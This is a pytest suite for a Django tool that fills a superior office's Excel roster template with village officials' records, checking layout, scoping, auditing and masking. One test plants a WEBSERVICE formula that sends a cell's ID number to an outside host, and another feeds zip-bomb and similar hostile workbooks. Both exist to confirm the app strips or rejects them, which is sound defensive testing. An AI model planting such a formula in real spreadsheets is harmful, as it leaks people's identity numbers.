"""按上级表样导出: a superior's empty form comes back in its own layout, filled from the ledger."""

import datetime
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl.styles import Border, Font, PatternFill, Side
from openpyxl.worksheet.datavalidation import DataValidation

from core.models import AuditEntry
from rosters.models import SuperiorForm
from tests import factories
from tests.rosters import county
from tests.rosters.test_collection import OTHER, clerk_client, staff
from tests.rosters.test_hostile import HOSTILE
from tests.rosters.workbooks import xls, xlsx
from villages.models import Village

__all__ = ["staff"]  # a fixture
pytestmark = pytest.mark.django_db

THIN = Border(*[Side(style="thin")] * 4)
HEADER = ("序号", "乡镇", "行政村", "姓名", "身份证号码", "职务", "年龄", "联系电话", "银行卡号")


def form(rows=3, header=HEADER, sheets=("附件1",), edit=None):
    """A superior's form: a merged title, a header, `rows` empty rows of data, a merged line of signatures."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name in sheets:
        sheet = book.create_sheet(name)
        sheet["A1"] = "全市村（社区）干部情况统计表"
        sheet.merge_cells("A1:I1")
        sheet["A1"].font = Font(bold=True, size=20)
        for column, text in enumerate(header, 1):
            sheet.cell(2, column, text).fill = PatternFill("solid", fgColor="FFDDEEFF")
        for row in range(3, 3 + rows):
            for column in range(1, len(header) + 1):
                sheet.cell(row, column).border = THIN
            sheet.row_dimensions[row].height = 31
        foot = 3 + rows
        sheet.cell(foot, 1, "填表人：        审核人：        填表日期：")
        sheet.merge_cells(start_row=foot, end_row=foot, start_column=1, end_column=len(header))
        sheet.row_dimensions[foot].height = 44
        sheet.column_dimensions["E"].width = 27
        sheet.print_area = f"A1:I{foot}"
    if edit:
        edit(book)
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def people(count, village="350723101201", **fields):
    """Village committee members with phones; returns them by name."""
    made = {}
    for number in range(count):
        someone = factories.person(f"成员{number:02}", village=village, phone=f"1390000{number:04}", **fields)
        factories.appointment(person=someone, village=village, post="village_committee_member")
        made[someone.name] = someone
    return made


def upload(client, content, name="市委组织部表样.xlsx", **more):
    return client.post(reverse("superior_upload"), {"file": SimpleUploadedFile(name, content), **more})


def fill(client, content, name="市委组织部表样.xlsx", **given):
    """The filled workbook."""
    answer = upload(client, content, name)
    assert answer.status_code == 302, answer.content.decode()
    done = client.post(answer["Location"], {"reason": "报市委组织部"} | given)
    assert done.status_code == 200, done.content.decode()
    return openpyxl.load_workbook(io.BytesIO(done.content))


def test_the_form_comes_back_filled_in_its_own_layout(staff, client):
    made = people(5)

    sheet = fill(client, form(rows=3))["附件1"]

    assert sheet["A1"].value == "全市村（社区）干部情况统计表"
    assert sheet["A1"].font.size == 20
    assert [cell.value for cell in sheet[2]] == list(HEADER)
    assert sheet.column_dimensions["E"].width == 27
    rows = list(sheet.iter_rows(min_row=3, max_row=7, values_only=True))
    assert [row[0] for row in rows] == [1, 2, 3, 4, 5]
    assert {row[3]: row[4] for row in rows} == {name: person.id_number for name, person in made.items()}
    assert {row[8] for row in rows} == {None}
    assert [sheet.cell(row, 5).number_format for row in range(3, 8)] == ["@"] * 5
    assert [sheet.cell(row, 5).data_type for row in range(3, 8)] == ["s"] * 5
    assert [sheet.cell(row, 9).border.left.style for row in range(3, 8)] == ["thin"] * 5
    assert [sheet.row_dimensions[row].height for row in range(3, 8)] == [31] * 5


def test_what_stands_below_moves_down_with_its_merge_and_height(staff, client):
    people(5)

    sheet = fill(client, form(rows=3))["附件1"]

    assert sheet["A8"].value.startswith("填表人：")
    assert {found.coord for found in sheet.merged_cells.ranges} == {"A1:I1", "A8:I8"}
    assert sheet.row_dimensions[8].height == 44
    assert sheet.print_area.endswith("$I$8")


def test_a_form_with_room_keeps_its_rows(staff, client):
    people(2)

    sheet = fill(client, form(rows=4))["附件1"]

    assert sheet["A7"].value.startswith("填表人：")
    assert sheet["D5"].value is None


def test_known_things_that_we_keep_otherwise_are_derived(staff, client):
    someone = factories.person(
        "张三", village="350723101201", political_status="party_member",
        id_number=factories.id_number(datetime.date(1980, 5, 6)),
    )  # fmt: skip
    for post in ("party_secretary", "village_director"):
        factories.appointment(person=someone, village="350723101201", post=post)
    header = ("姓名", "年龄", "是否党员", "党组织职务", "村委会职务", "是否一肩挑", "是否交叉任职", "身份证号")

    sheet = fill(client, form(header=header), division=county.TOWNSHIP)["附件1"]

    row = [cell.value for cell in sheet[3]]
    age = (datetime.date.today() - datetime.date(1980, 5, 6)).days // 365.2425
    assert row[:7] == ["张三", age, "是", "党组织书记", "村委会主任", "是", "是"]


@pytest.mark.parametrize("header", ["县（市、区）", "所在县", "县(市、区)名称"])
def test_the_county_is_filled_in(staff, client, header):
    people(2)

    sheet = fill(client, form(header=("序号", header, *HEADER[1:])))["附件1"]

    assert [sheet.cell(row, 2).value for row in (3, 4)] == ["光泽县", "光泽县"]


def test_columns_are_shown_with_their_reason_and_what_stays_empty(staff, client):
    html = client.get(upload(client, form())["Location"]).content.decode()

    assert "表头“身份证号码”" in html
    assert "1 列留空" in html
    assert "I 银行卡号" in html
    assert '<option value="id_number" selected>' in html


def test_a_column_can_be_corrected(staff, client):
    people(1, remarks="备注在此")

    sheet = fill(client, form(), **{"column-0-I": "remarks", "column-0-H": ""})["附件1"]

    assert sheet["I3"].value == "备注在此"
    assert sheet["H3"].value is None


def test_a_field_nobody_knows_leaves_the_column_empty(staff, client):
    people(1)

    assert fill(client, form(), **{"column-0-H": "password"})["附件1"]["H3"].value is None


def test_a_sheet_per_township_gets_its_own_people(staff, client):
    people(2, village="350723101201")
    people(1, village="350723102201")

    book = fill(client, form(sheets=("寨里镇", "止马镇", "汇总")))

    names = {
        name: [row[3] for row in book[name].iter_rows(min_row=3, max_row=4, values_only=True)]
        for name in book.sheetnames
    }
    assert names == {"寨里镇": ["成员00", "成员01"], "止马镇": ["成员00", None], "汇总": [None, None]}


def test_a_clerk_fills_with_their_own_people_only(staff, client):
    people(1, village="350723102201")
    mine = people(1, village="350723101201")

    sheet = fill(clerk_client(), form(), division=OTHER)["附件1"]

    assert sheet["E3"].value == mine["成员00"].id_number
    assert sheet["E4"].value is None


def test_an_xls_form_comes_back_as_xlsx(staff, client):
    made = people(4)
    rows = [["全市干部表", *[None] * 8], list(HEADER), [None] * 9, ["填表人：", *[None] * 8]]

    sheet = fill(client, xls(rows, merges=[(0, 0, 0, 8)]), "表样.xls").worksheets[0]

    assert "A1:I1" in {found.coord for found in sheet.merged_cells.ranges}
    assert sheet["E3"].value in {person.id_number for person in made.values()}
    assert sheet["A7"].value == "填表人："


def test_an_example_in_the_form_gives_way(staff, client):
    people(1)

    def example(book):
        sheet = book["附件1"]
        for column, value in enumerate(
            (1, "某镇", "某村", "某某某", "350723199001010011", "村委委员", 30, "13900000000", "6217"), 1
        ):
            sheet.cell(3, column, value)
            sheet.cell(4, column, value)

    text = [cell.value for row in fill(client, form(edit=example))["附件1"].iter_rows() for cell in row]

    assert "某某某" not in text
    assert "6217" not in [str(value) for value in text]


def test_formulas_and_links_of_the_form_are_not_given_back(staff, client):
    people(1)

    def evil(book):
        book["附件1"]["I3"] = '=WEBSERVICE("http://example.org/"&E3)'
        book["附件1"]["K1"] = "=1+1"

    book = fill(client, form(edit=evil))

    assert "f" not in {cell.data_type for row in book["附件1"].iter_rows() for cell in row}


def test_text_that_looks_like_a_formula_stays_text(staff, client):
    people(1, remarks="=1+1")

    cell = fill(client, form(), **{"column-0-I": "remarks"})["附件1"]["I3"]

    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_it_needs_a_reason_and_goes_into_the_log(staff, client):
    people(2)
    page = upload(client, form())["Location"]

    refused = client.post(page, {"reason": " "})
    assert refused.status_code == 400
    assert "请写明用途" in refused.content.decode()
    assert not AuditEntry.objects.filter(verb="export").exists()
    client.post(page, {"reason": "报市委组织部"})

    line = AuditEntry.objects.get(verb="export")
    assert (line.reason, line.after) == ("报市委组织部", {"rows": 2})


def test_pages_show_no_whole_number(staff, client):
    people(2)
    given = xlsx([["身份证号350723197710031862"], ["村", "姓名", "身份证号", "职务", "电话13900001111"]])

    html = client.get(upload(client, given)["Location"]).content.decode()

    assert not re.search(r"[0-9]{17}[0-9Xx]|(?<![0-9])1[3-9][0-9]{9}(?![0-9])", html)


@pytest.mark.parametrize("content", [b"no workbook", b"", xlsx([["天气", "温度"], ["晴", 20]])])
def test_what_is_no_form_is_told(staff, client, content):
    answer = upload(client, content)

    assert answer.status_code == 400
    assert 'class="note bad"' in answer.content.decode()
    assert not SuperiorForm.objects.exists()


def test_a_neighbours_form_does_not_exist(staff, client):
    theirs = upload(clerk_client(OTHER), form())["Location"]

    assert clerk_client().get(theirs).status_code == 404
    assert client.get(theirs).status_code == 200


def test_a_form_goes_when_its_day_has_come(staff, client):
    upload(client, form())
    SuperiorForm.objects.update(expires_at=datetime.date(2020, 1, 1))

    call_command("purge_uploads", stdout=io.StringIO())

    assert not SuperiorForm.objects.exists()


def test_a_filled_form_reads_back_as_unchanged(staff, client):
    people(5, ethnicity="汉族")
    answer = upload(
        client, form(header=("序号", "乡镇", "村", "姓名", "民族", "身份证号", "职务", "任现职时间", "联系电话"))
    )
    done = client.post(answer["Location"], {"reason": "x"}).content

    client.post(reverse("roster_upload"), {"kind": "committee", "file": SimpleUploadedFile("x.xlsx", done)})

    kept = staff.uploads.get()
    assert (kept.counts["unchanged"], kept.counts["error"], kept.writes) == (5, 0, 0)


def test_posts_by_body_and_ticks_under_a_grouped_header(staff, client):
    someone = factories.person("张三", village="350723101201")
    for post in ("party_secretary", "village_director"):
        factories.appointment(person=someone, village="350723101201", post=post)
    rows = [
        ["村", "姓名", "身份证号", "党组织", None, "村委会", None],
        [None, None, None, "书记", "副书记", "主任", "副主任"],
        [None] * 7,
    ]
    content = xlsx(("Sheet1", rows), merges=("A1:A2", "B1:B2", "C1:C2", "D1:E1", "F1:G1"))

    sheet = fill(client, content)["Sheet1"]

    assert [cell.value for cell in sheet[3]] == ["茶富村", "张三", someone.id_number, "√", None, "√", None]


def test_cells_merged_across_in_the_first_row_are_merged_in_all(staff, client):
    people(3)

    def merge(book):
        book["附件1"].merge_cells("H3:I3")

    sheet = fill(client, form(edit=merge))["附件1"]

    assert {"H3:I3", "H4:I4", "H5:I5"} <= {found.coord for found in sheet.merged_cells.ranges}
    assert sheet["H5"].value.startswith("139")


def test_a_form_that_the_writer_cannot_open_is_made_anew(staff, client):
    people(2)
    given, output = zipfile.ZipFile(io.BytesIO(form())), io.BytesIO()
    with zipfile.ZipFile(output, "w") as broken:
        for name in given.namelist():
            broken.writestr(name, given.read(name).replace(b"FFDDEEFF", b"no colour"))

    sheet = fill(client, output.getvalue())["附件1"]

    assert [row[0] for row in sheet.iter_rows(min_row=3, max_row=4, values_only=True)] == [1, 2]


@pytest.mark.parametrize("name", ["far cell", "zip bomb", "doctype utf-16"])
@pytest.mark.parametrize("page", ["superior_upload", "reconcile_upload"])
def test_a_hostile_file_gets_a_message(staff, client, page, name):
    file = SimpleUploadedFile("x.xlsx", HOSTILE[name][0])

    answer = client.post(reverse(page), {"file": file, "kind": "committee"})

    assert answer.status_code == 400
    assert 'class="note bad"' in answer.content.decode()


BLOCK = ("序号", "姓名", "身份证号码", "职务")
SEVERAL_VILLAGES = "350723101201", "350723101202"


def names_of(*codes):
    return [Village.objects.get(code=code).name for code in codes]


def two_villages():
    """(names of two villages of one township, {village name: names of its people})."""
    names = names_of(*SEVERAL_VILLAGES)
    for village, code in zip(("甲", "乙"), SEVERAL_VILLAGES, strict=True):
        for number in range(3):
            someone = factories.person(f"{village}村民{number}", village=code)
            factories.appointment(person=someone, village=code, post="village_committee_member")
    return dict(zip(names, (["甲村民0", "甲村民1", "甲村民2"], ["乙村民0", "乙村民1", "乙村民2"]), strict=True))


def blocks(titles, room=2, header=BLOCK):
    """One block below the other: a title, the header, `room` empty rows, a line to sign; a rule on the last column."""
    book = openpyxl.Workbook()
    sheet = book.active
    for number, title in enumerate(titles):
        top = 1 + number * (room + 4)
        sheet.cell(top, 1, title)
        sheet.merge_cells(start_row=top, end_row=top, start_column=1, end_column=len(header))
        for column, text in enumerate(header, 1):
            sheet.cell(top + 1, column, text)
        sheet.row_dimensions[top + 1].height = 30 + number
        rule = DataValidation("list", formula1='"村委委员,书记"')
        rule.add(f"D{top + 2}:D{top + 1 + room}")
        sheet.add_data_validation(rule)
        sheet.cell(top + 2 + room, 1, "填表人：")
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def column(sheet, letter="B"):
    return [cell.value for cell in sheet[letter] if cell.value]


def test_a_block_per_village_gets_its_own_people(staff, client):
    people = two_villages()
    (first, ours), (second, theirs) = people.items()

    sheet = fill(client, blocks([f"{first}“两委”班子名册", f"{second}“两委”班子名册"])).worksheets[0]

    assert column(sheet) == ["姓名", *ours, "姓名", *theirs]
    assert [sheet.cell(row, 1).value for row in (1, 6, 8, 13)] == [
        f"{first}“两委”班子名册", "填表人：", f"{second}“两委”班子名册", "填表人：",
    ]  # fmt: skip
    assert {found.coord for found in sheet.merged_cells.ranges} == {"A1:D1", "A8:D8"}
    assert sheet.row_dimensions[9].height == 31
    assert [str(rule.sqref) for rule in sheet.data_validations.dataValidation] == ["D3:D5", "D10:D12"]


def test_a_sheet_per_village_gets_its_own_people(staff, client):
    people = two_villages()

    book = fill(client, form(header=BLOCK, sheets=tuple(people)))

    assert {name: column(book[name])[1:] for name in people} == people


def test_a_block_whose_village_has_nobody_loses_its_example(staff, client):
    first = next(iter(two_villages()))
    empty = names_of("350723101203")[0]

    def example(book):
        for value, cell in zip((1, "某某某", "350723199001010011", "村委委员"), book[empty][3], strict=False):
            cell.value = value

    book = fill(client, form(header=BLOCK, sheets=(first, empty), edit=example))

    assert column(book[empty]) == ["姓名"]


def test_whom_the_form_has_no_place_for_is_told(staff, client):
    first = next(iter(two_villages()))

    html = client.get(upload(client, blocks([f"{first}班子名册"]))["Location"]).content.decode()

    assert f"只填{first}的人" in html
    assert "其余 3 行不在表样所列的村（乡镇），不填" in html


def test_a_village_of_two_townships_asks_for_the_township(staff, client):
    for code in ("350723101201", "350723102201"):
        Village.objects.filter(code=code).update(name="同名村")
        people(1, village=code)
    content = blocks(["同名村班子名册"])
    page = upload(client, content)["Location"]

    asked = client.post(page, {"reason": "上报"})

    assert asked.status_code == 400
    assert "“同名村”不止一个乡镇有，请先选范围" in asked.content.decode()
    sheet = fill(client, content, division=county.TOWNSHIP).worksheets[0]
    assert len(column(sheet)) == 2


@pytest.mark.parametrize("title", ["寨里镇村干部情况统计表", "光泽县寨里镇村（社区）干部名册"])
def test_a_title_that_names_a_township_asks_for_that_one(staff, client, title):
    people(2, village="350723101201")
    people(1, village="350723102201")

    def named(book):
        book["附件1"]["A1"] = title

    page = upload(client, form(edit=named))["Location"]
    html = client.get(page).content.decode()

    assert re.search(r'<option value="350723101" selected>寨里镇', html)
    assert "表样写的是寨里镇，范围已替您选好" in html


def test_a_form_of_another_township_is_said_to_be(staff):
    client = clerk_client(OTHER)

    def named(book):
        book["附件1"]["A1"] = "寨里镇村干部情况统计表"

    html = client.get(upload(client, form(edit=named))["Location"]).content.decode()

    assert "表样写的是寨里镇，填的是止马镇的人" in html


def test_a_form_without_anybody_to_fill_in_is_not_given(staff, client):
    first = next(iter(two_villages()))
    page = upload(client, blocks([f"{first}班子名册"]))["Location"]

    answer = client.post(page, {"reason": "上报", "division": OTHER})

    assert answer.status_code == 400
    assert "没有可填的行" in answer.content.decode()


@pytest.mark.parametrize("header", ["序\n号", "序　号", "编 号"])
def test_a_number_is_known_however_it_is_spaced(staff, client, header):
    people(2)

    sheet = fill(client, form(header=(header, *HEADER[1:])))["附件1"]

    assert [sheet.cell(row, 1).value for row in (3, 4)] == [1, 2]


def test_whose_posts_no_column_takes_is_told(staff, client):
    someone = factories.person("张三", village="350723101201")
    factories.appointment(person=someone, village="350723101201", post="supervision_director")
    people(1)
    header = ("姓名", "身份证号", "党组织职务", "村委会职务")

    told = client.get(upload(client, form(header=header))["Location"]).content.decode()
    whole = client.get(upload(client, form(header=("姓名", "身份证号", "职务")))["Location"]).content.decode()

    assert "1 行的“职务”没有一列可填，会空着，如：监委会主任" in told
    assert "没有一列可填" not in whole


@pytest.mark.parametrize("rows", [[["请各村按附件填报"], ["天气", "温度"]], [["姓名"], ["性别"], ["身份证号"]]])
def test_what_has_no_header_is_said_to_have_none(staff, client, rows):
    html = upload(client, xlsx(rows)).content.decode()

    assert "没有找到表头" in html or "不能按表样成批导出" in html
    assert "没有找到《" not in html


def test_the_title_tells_the_kind_where_the_columns_do_not(staff, client):
    people(1)

    def few(book):
        book["附件1"]["A1"] = "全县村干部花名册"

    upload(client, form(header=("序号", "村", "姓名", "职务"), edit=few))

    assert SuperiorForm.objects.get().kind == "committee"
